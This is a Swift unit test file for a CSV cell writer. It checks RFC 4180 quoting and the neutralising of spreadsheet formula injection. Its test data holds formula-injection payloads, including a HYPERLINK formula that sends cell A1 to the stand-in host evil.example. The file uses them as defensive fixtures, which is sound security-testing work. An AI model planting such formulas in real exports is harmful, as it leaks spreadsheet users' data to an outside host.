import RemoteWire
import Testing

/// The one CSV writer: RFC 4180 quoting, and no cell a spreadsheet would run as a formula.
struct CSVTextTests {
    @Test(arguments: [
        ("Ann", "Ann"),
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"), ("\r=1", "\"'\r=1\""),
        ("=HYPERLINK(\"https://evil.example/?\"&A1,\"robot-1\")", "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"robot-1\"\")\""),
        ("a,b", "\"a,b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""), ("two\nlines", "\"two\nlines\""), ("a\r\nb", "\"a\r\nb\""),
        ("x=1", "x=1"), ("", ""), ("Zoë 🤖", "Zoë 🤖"),
    ])
    func cells(text: String, cell: String) {
        #expect(CSVText.cell(text) == cell)
    }

    @Test func rowsEndWithCRLF() {
        #expect(CSVText.row(["1", "-Ann", "3"]) == "1,'-Ann,3\r\n")
        #expect(CSVText.row([]) == "\r\n")
    }
}
